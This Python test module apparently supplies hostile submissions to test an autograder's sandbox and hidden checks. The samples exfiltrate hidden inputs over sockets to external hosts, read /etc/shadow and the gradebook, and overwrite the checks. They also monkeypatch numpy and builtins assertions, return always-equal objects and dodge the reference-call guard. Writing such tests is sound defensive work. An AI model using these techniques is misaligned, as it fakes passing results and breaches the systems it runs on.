"""Attacks on the grade itself: escaping the sandbox, fooling the checks, the reference."""

from . import Attack

RELU_FORWARD = "def relu_forward(x):\n    return np.maximum(x, 0), x\n\n"
RELU_BACKWARD = "def relu_backward(dout, cache):\n    return dout * (cache > 0)\n"

_NETWORK = """\
import socket

def scale(x, a):
    for host, port in (("127.0.0.1", $port), ("1.1.1.1", 80), ("example.com", 443)):
        try:
            s = socket.create_connection((host, port), timeout=1)
            s.sendall(b"hidden inputs: " + x.tobytes())
            return x * a  # only a working connection earns the points
        except OSError:
            pass
    return None
"""

_WRITE = """\
import os

PASSING_CHECKS = "def scale(s): pass\\ndef relu_forward(s): pass\\n"

def _write(path, text, mode="a"):
    try:
        with open(path, mode) as f:
            f.write(text)
    except OSError:
        pass

def scale(x, a):
    _write("$checks/tinychecks/checks.py", PASSING_CHECKS, "w")
    _write("$course/source/tiny/tiny.ipynb", "pwned")
    _write("$course/gradebook.db", "pwned")
    _write("$course/evil-$uid.txt", "pwned")
    _write("$repo/autograder/evil-$uid.py", "pwned")
    _write("$repo/evil-$uid.txt", "pwned")
    _write("$canary", "pwned")
    _write(os.path.expanduser("~/evil-$uid.txt"), "pwned")
    return np.zeros_like(x)  # wrong: only rewritten checks could pass it
"""

_READ = """\
def scale(x, a):
    leaked = []
    for path in ("$course/source/tiny/tiny.ipynb", "$course/gradebook.db",
                 "$checks/tinychecks/checks.py", "$repo/autograder/checks/common.py",
                 "$repo/.git/HEAD", "$repo/exercises/nbgrader_config.py", "/etc/shadow"):
        try:
            with open(path, "rb") as f:
                data = f.read(200)
            if data:
                leaked.append(path)
        except OSError:
            pass
    if leaked:
        raise RuntimeError("LEAKED " + repr(leaked))
    return None
"""

_PATCH = """\
import builtins, sys, numpy, numpy.testing
numpy.allclose = lambda *a, **k: True
numpy.array_equal = lambda *a, **k: True
numpy.testing.assert_allclose = lambda *a, **k: None
numpy.testing.assert_array_equal = lambda *a, **k: None
numpy.isfinite = lambda x: numpy.ones(numpy.shape(x), bool)
builtins.abs = lambda x: 0
builtins.AssertionError = type("NotAnAssertion", (Exception,), {})
sys.modules["tinychecks"] = type(sys)("tinychecks")
"""

_LIAR = """\
class Liar(float):
    shape = (3, 5)
    dtype = "float64"
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    def __array__(self, *args, **kwargs):
        return np.zeros(self.shape)

class LiarArray(np.ndarray):
    def __eq__(self, other):
        return np.ones(np.shape(self), bool)
    def __ne__(self, other):
        return np.zeros(np.shape(self), bool)

def scale(x, a):
    return Liar(0.0)
"""

_LEAK = """\
LEAKED = []

def scale(x, a):
    LEAKED.append(x.copy())
    return x * a
"""

ATTACKS = [
    Attack("network", "connects to the grader's 127.0.0.1 port, the internet and DNS",
           answers={"scale": _NETWORK}, expect={"test_scale": False}),
    Attack("write_course", "overwrites the hidden checks, the gradebook and course files",
           answers={"scale": _WRITE}, expect={"test_scale": False}),
    Attack("read_secrets", "reads the source notebook, gradebook, checks and repository",
           answers={"scale": _READ}, expect={"test_scale": False}),
    Attack("input_transformer", "installs IPython input transformers to rewrite later cells",
           before={None: ["ip = get_ipython()\n"
                          "ip.input_transformers_cleanup.append(lambda lines: ['pass\\n'])\n"
                          "ip.input_transformers_post.append(lambda lines: ['pass\\n'])\n"]},
           answers={"scale": "def scale(x, a):\n    return None\n"},
           expect={"test_scale": False}),
    Attack("patch_checks", "patches np.allclose, numpy.testing, builtins and sys.modules",
           before={None: [_PATCH]},
           answers={"scale": "def scale(x, a):\n    return numpy.zeros_like(x)\n"},
           expect={"test_scale": False}),
    Attack("eq_always_true", "returns objects whose __eq__ is always true",
           answers={"scale": _LIAR,
                    "relu": "def relu_forward(x):\n"
                            "    return np.zeros_like(x).view(LiarArray), x\n\n" + RELU_BACKWARD},
           expect={"test_scale": False, "test_relu_forward": False,
                   "test_relu_backward": False}),
    Attack("wrong_dtype", "returns float32 for float64 input",
           answers={"scale": "def scale(x, a):\n    return (x * a).astype(np.float32)\n"},
           expect={"test_scale": False}),
    Attack("nan_outputs", "relu_forward puts a NaN in its output",
           answers={"relu": "def relu_forward(x):\n    out = np.maximum(x, 0)\n"
                            "    out.flat[0] = np.nan\n    return out, x\n\n" + RELU_BACKWARD},
           expect={"test_relu_forward": False, "test_relu_backward": False}),
    Attack("broadcast_shape", "returns a broadcastable but wrong shape",
           answers={"scale": "def scale(x, a):\n    return (x * a)[None]\n"},
           expect={"test_scale": False}),
    Attack("reseed_globals", "reseeds random/numpy globally to guess the hidden inputs",
           before={None: ["import random\nimport numpy as np\n"
                          "random.seed(0)\nnp.random.seed(0)\n"]},
           answers={"scale": "def scale(x, a):\n    np.random.seed(0)\n"
                             "    return (np.random.normal(size=x.shape) * 2.0).astype(x.dtype)\n"},
           expect={"test_scale": False}),
    Attack("hoard_inputs", "keeps the hidden inputs, prints and raises them in a later cell",
           answers={"scale": _LEAK},
           after={"test_scale": ["print(LEAKED)\nraise ValueError(repr(LEAKED))\n"]}),
    Attack("correct_forward_wrong_backward", "relu_forward right, relu_backward forgets the mask",
           answers={"relu": RELU_FORWARD + "def relu_backward(dout, cache):\n    return dout\n"},
           expect={"test_relu_backward": False}),
    Attack("wrong_forward_correct_backward", "relu_forward wrong, relu_backward right",
           answers={"relu": "def relu_forward(x):\n    return np.abs(x), x\n\n" + RELU_BACKWARD},
           expect={"test_relu_forward": False, "test_relu_backward": False}),
]


# ---------------------------------------------------------------------------
# hostile replies: every one costs the test it happens in, never the batch
# ---------------------------------------------------------------------------

_FORGE = """\
import os, stat, json

def _forge(header: bytes, buffers=()):
    frame = len(header).to_bytes(4, "big") + header + len(buffers).to_bytes(4, "big")
    for b in buffers:
        frame += len(b).to_bytes(8, "big") + b
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, frame)
        except OSError:
            pass
"""

_DEEP_JSON = _FORGE + """
def scale(x, a):
    _forge(b"[" * 200_000 + b"]" * 200_000)
    return x * a
"""

_BAD_VALUES = _FORGE + """
def relu_forward(x):
    deep = '{"t":"list","v":[' * 500 + '{"t":"none"}' + ']}' * 500
    _forge(('{"ok":true,"v":' + deep + '}').encode())
    return np.maximum(x, 0), x

def relu_backward(dout, cache):
    _forge(json.dumps({"ok": True, "v": {"t": "argref", "i": 999},
                       "sync": [[0, {"t": "nd", "d": "<f8", "s": [10**9], "b": 0}]],
                       "fx": {"not": "a list"}}).encode())
    return dout * (cache > 0)
"""

_LYING_ERROR = _FORGE + """
def conv_output_size(size, kernel, stride=1, padding=0):
    if (size, kernel) == (32, 5):
        return 28
    _forge(json.dumps({"ok": False, "err": {"type": {"a": 1}, "msg": ["x"] * 10,
                       "where": "everywhere", "bases": "ExceptionGroup"},
                       "sync": "nothing", "out": 5, "out_total": "many"}).encode())
    return (size + 2 * padding - kernel) // stride + 1
"""

_GROUPS = """\
def scale(x, a):
    raise ExceptionGroup("two problems", [ValueError("a"), TypeError("b")])

def relu_forward(x):
    raise BaseExceptionGroup("base", [KeyboardInterrupt()])

def relu_backward(dout, cache):
    return dout * (cache > 0)

class Weird(UnicodeDecodeError):
    def __str__(self):
        raise RuntimeError("no message for you")

def conv_output_size(size, kernel, stride=1, padding=0):
    raise Weird("utf-8", b"x", 0, 1, "bad")
"""

#: Hidden inputs carried out in what the submission raises. The visible example gets the
#: right answer, so nothing but the hidden cases raise (the visible part may show its text).
_SMUGGLE = """\
import numpy as np

def scale(x, a):
    if x.shape == (3,):
        return x * a
    raise ValueError("LEAKED " + repr(x.ravel().tolist()))

def relu_forward(x):
    if x.shape == (2,):
        return np.maximum(x, 0), x
    raise AssertionError("LEAKED " + repr(x.ravel().tolist()))

def relu_backward(dout, cache):
    return dout * (cache > 0)

def conv_output_size(size, kernel, stride=1, padding=0):
    if (size, kernel) == (32, 5):
        return 28
    name = "LEAKED_%d_%d_%d_%d" % (size, kernel, stride, padding)
    raise type(name, (KeyError,), {})(name)
"""

_SMUGGLE_NAMES = """\
import numpy as np

def scale(x, a):
    if x.shape == (3,):
        return x * a
    code = compile("\\n" * int(abs(x.flat[0]) * 1000) + "raise KeyError()", "<cell 9>", "exec")
    def inner():
        exec(code)
    inner.__code__ = inner.__code__.replace(co_name="LEAKED_" + str(int(abs(x.flat[0]) * 1e6)))
    inner()
"""

ATTACKS += [
    Attack("deep_json_reply", "scale answers with a frame of JSON nested 200,000 deep",
           answers={"scale": _DEEP_JSON}, expect={"test_scale": "crashed"}),
    Attack("bad_values", "relu_forward and relu_backward answer with over-deep values, "
           "references to no argument, a huge changed argument",
           answers={"relu": _BAD_VALUES},
           expect={"test_relu_forward": "crashed", "test_relu_backward": "crashed"}),
    Attack("lying_error", "conv_output_size answers with an error description of the wrong "
           "types", answers={"conv_output_size": _LYING_ERROR},
           expect={"test_conv_output_size": False}),
    Attack("exception_groups", "raises ExceptionGroup, BaseExceptionGroup and a "
           "UnicodeDecodeError whose message raises",
           answers={"scale": _GROUPS, "relu": "", "conv_output_size": ""},
           expect={"test_scale": "error", "test_relu_forward": "error",
                   "test_relu_backward": "error", "test_conv_output_size": "error"}),
    Attack("hidden_inputs_in_exceptions", "raises with the hidden inputs in the message, an "
           "AssertionError's message and the exception's class name",
           answers={"scale": _SMUGGLE, "relu": "", "conv_output_size": ""},
           expect={"test_scale": "error", "test_relu_forward": "error",
                   "test_relu_backward": "error", "test_conv_output_size": "error"}),
    Attack("hidden_inputs_in_names", "raises from a function renamed after a hidden input, at "
           "a line number made from it", answers={"scale": _SMUGGLE_NAMES},
           expect={"test_scale": "error"}),
]


# ---------------------------------------------------------------------------
# the reference-call guard and arguments changed in place: these need checks that arm
# the guard and look at their arguments after the call, as the real checks do
# (tests/test_grader_guarded.py grades them against such a variant of the tiny course)
# ---------------------------------------------------------------------------

_CONV = "def conv_output_size(size, kernel, stride=1, padding=0):\n"

GUARDED = [
    Attack("honest_guarded", "a correct submission"),
    Attack("reference_in_a_demo_cell", "a cell calls the reference for a demo; its own "
           "answers are honest (nothing is armed there: no cost on either path)",
           after={"conv_output_size": ["import cnnbook.shapes\n"
                                       "print(cnnbook.shapes.conv_output_size(32, 5))\n"]}),
    Attack("reference_by_name", "conv_output_size calls cnnbook's reference by name",
           answers={"conv_output_size": "import cnnbook.shapes\n\n" + _CONV +
                    "    return cnnbook.shapes.conv_output_size(size, kernel, stride, padding)\n"},
           expect={"test_conv_output_size": "forbidden"}),
    Attack("reference_then_alias",
           "calls cnnbook's reference, then, if that raised, an alias of it",
           answers={"conv_output_size":
                    "import cnnbook.shapes\nfrom cnnbook.shapes import conv_output_size as _ref\n\n"
                    "def conv_output_size(size, kernel, stride=1, padding=0):\n    try:\n"
                    "        return cnnbook.shapes.conv_output_size("
                    "size, kernel, stride, padding)\n"
                    "    except Exception:\n        return _ref(size, kernel, stride, padding)\n"},
           expect={"test_conv_output_size": "forbidden"}),
    Attack("reference_alias_in_closure", "the reference kept in a closure under another name",
           answers={"conv_output_size": "from cnnbook.shapes import conv_output_size as _r\n\n"
                    "def _make(f=_r):\n    def g(*a):\n        return f(*a)\n    return g\n\n"
                    "_helper = _make()\n\n" + _CONV +
                    "    return _helper(size, kernel, stride, padding)\n"},
           expect={"test_conv_output_size": "forbidden"}),
    Attack("reference_re_executed", "executes the reference module's file again for a "
           "fresh, unguarded copy",
           answers={"conv_output_size": "import sys, types, cnnbook.shapes\n"
                    "_mine = sys.modules['mine'] = types.ModuleType('mine')\n"
                    "exec(compile(open(cnnbook.shapes.__file__).read(), 'mine.py', 'exec'), "
                    "_mine.__dict__)\n\n"
                    + _CONV + "    return _mine.conv_output_size(size, kernel, stride, padding)\n"},
           expect={"test_conv_output_size": "forbidden"}),
    Attack("reference_reloaded", "importlib.reload and a second import of the module "
           "under another name",
           answers={"conv_output_size": "import importlib, importlib.util, cnnbook.shapes\n"
                    "importlib.reload(cnnbook.shapes)\n"
                    "_spec = importlib.util.spec_from_file_location("
                    "'other', cnnbook.shapes.__file__)\n"
                    "_other = importlib.util.module_from_spec(_spec)\n"
                    "import sys\nsys.modules['other'] = _other\n"
                    "_spec.loader.exec_module(_other)\n\n"
                    + _CONV + "    if size % 2:\n"
                    "        return _other.conv_output_size(size, kernel, stride, padding)\n"
                    "    return cnnbook.shapes.conv_output_size(size, kernel, stride, padding)\n"},
           expect={"test_conv_output_size": "forbidden"}),
    Attack("reference_through_aten", "computes the size with torch.ops.aten.convolution",
           answers={"conv_output_size": "import torch\n\n" + _CONV +
                    "    x, w = torch.zeros(1, 1, size, size), torch.zeros(1, 1, kernel, kernel)\n"
                    "    out = torch.ops.aten.convolution.default(x, w, None, [stride, stride], "
                    "[padding, padding], [1, 1], False, [0, 0], 1)\n"
                    "    return int(out.shape[-1])\n"},
           expect={"test_conv_output_size": "forbidden"}),
    Attack("reference_through_F_conv2d", "computes the size with torch.nn.functional.conv2d",
           answers={"conv_output_size": "import torch\nimport torch.nn.functional as F\n\n"
                    + _CONV + "    out = F.conv2d(torch.zeros(1, 1, size, size), "
                    "torch.zeros(1, 1, kernel, kernel), stride=stride, padding=padding)\n"
                    "    return int(out.shape[-1])\n"},
           expect={"test_conv_output_size": "forbidden"}),
    Attack("reference_in_a_thread", "calls the reference in another thread, out of the "
           "watch's sight (threads are refused: nothing to return)",
           answers={"conv_output_size": "import threading, cnnbook.shapes\n\n" + _CONV +
                    "    box = []\n    try:\n"
                    "        t = threading.Thread(target=lambda: box.append("
                    "cnnbook.shapes.conv_output_size(size, kernel, stride, padding)))\n"
                    "        t.start()\n        t.join()\n    except RuntimeError:\n        pass\n"
                    "    return box[0] if box else -1\n"},
           expect={"test_conv_output_size": False}),
    Attack("guard_switched_off", "switches the profiler off before calling the reference",
           answers={"conv_output_size": "import sys, cnnbook.shapes\n\n" + _CONV +
                    "    sys.setprofile(None)\n"
                    "    return cnnbook.shapes.conv_output_size(size, kernel, stride, padding)\n"},
           expect={"test_conv_output_size": "forbidden"}),
    Attack("scale_in_place", "scale multiplies its argument in place and returns it",
           answers={"scale": "def scale(x, a):\n    x *= a\n    return x\n"},
           expect={"test_scale": False}),
    Attack("scale_in_place_copy", "scale multiplies its argument in place, returns a copy",
           answers={"scale": "def scale(x, a):\n    x *= a\n    return x.copy()\n"},
           expect={"test_scale": False}),
    Attack("scale_returns_argument", "scale returns its argument (unchanged) when a == 1, a "
           "new array otherwise: honest, the checks never pass a == 1",
           answers={"scale": "def scale(x, a):\n    return x if a == 1 else x * a\n"}),
]
